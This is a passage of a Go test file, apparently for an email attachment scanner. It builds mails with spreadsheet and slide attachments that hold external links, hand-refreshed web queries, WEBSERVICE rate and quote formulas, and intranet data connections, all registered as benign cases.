			attach(ctXlsx, "summary.xlsx", xlsxOf([][]string{{"Total", "=[1]Sheet1!B9"}}, nil, `file:///C:\Users\aiko\Documents\budget.xlsx`)))})
	add(ok("xls-external-link-local", "an Excel 97-2003 workbook referring to another on the author's drive, as LibreOffice writes one it cached no sheet of (a SUPBOOK without sheets, which was once read as a DDE link)"),
		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary; the figures come from my budget workbook.\n"),
			attach("application/vnd.ms-excel", "summary.xls", formats.XLS(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Summary"}},
				External: []formats.XLSExternal{{Path: "\x01\x01CUsers\x03aiko\x03budget.xlsx"}}})))})
	add(ok("xlsx-web-query-by-hand", "a workbook with a web query to a rates page, refreshed by hand (no refresh on open)"),
		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Refresh the rates with Data > Refresh.\n"),
			attach(ctXlsx, "rates.xlsx", xlsxOf([][]string{{"Rate", "1"}}, nil, "", connectionsPart(webQuery("https://www.example.com/rates.html", false)))))})
	add(ok("xlsb-web-query-by-hand", "an Excel binary workbook with a web query to a rates page, refreshed by hand (no refresh on open)"),
		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Refresh the rates with Data > Refresh.\n"),
			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "rates.xlsb", formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Rates"}},
				Connections: []formats.XLSBConnection{{Name: "Rates", URL: "https://www.example.com/rates.html"}}})))})
	add(ok("ods-webservice-rates", "an OpenDocument spreadsheet reading the ECB's daily exchange rates with FILTERXML(WEBSERVICE(...)), as spreadsheet guides show"),
		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Today's rates from the ECB.\n"),
			attach(ctOds, "rates.ods", odsFormula(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))})
	add(ok("xlsb-webservice-rates-cell", "an Excel binary workbook from a supplier reading exchange rates for the currency its own cell names (WEBSERVICE of an address built from the sheet's cells)"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Rates", root: multipart("mixed", text("The price list converts with today's rates.\n"),
			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://api.rates.example/latest?base="), formats.Ptg12Ref(0, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "EUR"}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"EUR"}})))})
	add(ok("xlsb-rates-setup-sheet", "an Excel binary workbook from a supplier reading exchange rates from an address and a currency kept on its setup sheet (3-D references)"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Rates", root: multipart("mixed", text("The price list converts with today's rates; the currency is on the Setup sheet.\n"),
			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{SheetRefs: true,
				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
					{Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Ref3d(1, 0, 0), formats.Ptg12Ref3d(1, 0, 1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
					Cells: []formats.XLSCell{{Row: 0, Col: 1, Text: "Price"}}},
					{Name: "Setup", Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "https://api.rates.example/latest?base="}, {Row: 0, Col: 1, Text: "EUR"}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"Price", "https://api.rates.example/latest?base=", "EUR"}})))})
	add(ok("ods-webservice-feed", "an OpenDocument spreadsheet from a supplier reading its news feed on a named host with FILTERXML(WEBSERVICE(...)), the address in another cell"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "News", root: multipart("mixed", text("Our news, always current.\n"),
			attach(ctOds, "news.ods", odf(ctOds, `<office:spreadsheet><table:table table:name="News"><table:table-row>`+
				`<table:table-cell table:formula="of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE([.B1]);&quot;//title&quot;)" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
				`<table:table-cell office:value-type="string"><text:p>https://news.example.org/feed.xml</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)))})
	add(ok("xlsx-quotes-filled-down", "a supplier's price list whose stock quote WEBSERVICE is filled down a column (a shared formula), each row's symbol filled in"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Quotes", root: multipart("mixed", text("The quotes refresh as you open the list.\n"),
			attach(ctXlsx, "quotes.xlsx", xlsxSheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>MSFT</t></is></c><c r="B1" t="str"><f t="shared" ref="B1:B3" si="0">_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;A1)</f><v>1</v></c></row>`+
				`<row r="2"><c r="A2" t="inlineStr"><is><t>AAPL</t></is></c><c r="B2" t="str"><f t="shared" si="0"/><v>2</v></c></row>`+
				`<row r="3"><c r="A3" t="inlineStr"><is><t>GOOG</t></is></c><c r="B3" t="str"><f t="shared" si="0"/><v>3</v></c></row>`, nil, "")))})
	add(ok("xlsx-connection-my-data-sources", "a colleague's workbook whose data connection was made from an .odc in her My Data Sources folder, to the intranet SQL server"),
		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
			attach(ctXlsx, "sales.xlsx", xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="C:\Users\aiko\Documents\My Data Sources\SQL01 Sales.odc" name="SQL01 Sales" type="5" refreshedVersion="8" background="1">`+
				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`))))})
	add(ok("xls-quotes-filled-down", "an Excel 97-2003 workbook from a supplier whose WEBSERVICE quote formula is filled down a column (a shared formula), each row reading the quote of the symbol its own row names"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Quotes", root: multipart("mixed", text("The quotes refresh as you open the list.\n"),
			attach("application/vnd.ms-excel", "quotes.xls", formats.XLS(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Quotes", Formulas: []formats.XLSFormula{
					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgStr("https://quotes.example.org/q?s="), formats.PtgRefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"MSFT", "AAPL", "GOOG"}})))})
	add(ok("xls-rates-sst-first", "an Excel 97-2003 workbook from a supplier, written with its shared strings before its names and its sheet inside an unknown record (as Excel and LibreOffice read it), whose WEBSERVICE reads the day's exchange rate from the address in a shared string, the currency filled in"),
		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Exchange rates", root: multipart("mixed", text("Today's rate refreshes as you open the sheet.\n"),
			attach("application/vnd.ms-excel", "rates.xls", formats.XLS(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Rates", Formulas: []formats.XLSFormula{
					{Col: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgRef(0, 0), formats.PtgStr("&to=USD&amount="), formats.PtgConcat, formats.PtgStr("100"), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"https://api.rates.example/convert?from=EUR"}, SSTFirst: true, Tucked: true})))})
	add(ok("xlsb-stock-prices-filled-down", "a broker's binary workbook (.xlsb) whose closing-price WEBSERVICE is filled down a column (a shared formula), each row reading the price of the ticker its own row names"),
		mail{from: "Research <research@broker.example.com>", subject: "Closing prices", root: multipart("mixed", text("Closing prices refresh as you open the workbook.\n"),
			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "prices.xlsb", formats.XLSB(formats.XLSWorkbook{
				Sheets: []formats.XLSSheet{{Name: "Prices", Formulas: []formats.XLSFormula{
					{Col: 2, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.Ptg12Str("https://prices.example.org/close?ticker="), formats.Ptg12RefN(0, -2), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}},
					Cells: []formats.XLSCell{{Row: 0, Col: 0, Text: "IBM"}, {Row: 1, Col: 0, Text: "ORCL"}, {Row: 2, Col: 0, Text: "SAP"}}}},
				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
				Strings: []string{"IBM", "ORCL", "SAP"}})))})
	add(ok("xlsb-connection-my-data-sources", "a colleague's binary workbook (.xlsb) whose data connection was made from an .odc in her My Data Sources folder, its Access database on the file server"),
		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "sales.xlsb", formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
				Connections: []formats.XLSBConnection{{Name: "SQL01 Sales", ConnectionFile: `C:\Users\aiko\Documents\My Data Sources\SQL01 Sales.odc`, DataFile: `\\fileserver\finance\sales.accdb`}}})))})
	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
	add(ok("pptx-web-hyperlink", "a presentation whose slide links to a web page on click and shows a tip on mouse-over (no action)"),
		mail{subject: "Presentation", root: multipart("mixed", text("The slides.\n"),
			attach(ctPptx, "slides.pptx", pptxOf(slideShape(2, "Our products", `<a:hlinkClick r:id="rId5"/>`)+
				slideShape(3, "Next slide", `<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkHover r:id="rId6" tooltip="Read more"/>`),
				hyperlinkRel("rId5", "https://www.example.com/products")+hyperlinkRel("rId6", "https://www.example.com/"), false)))})
	return out
}
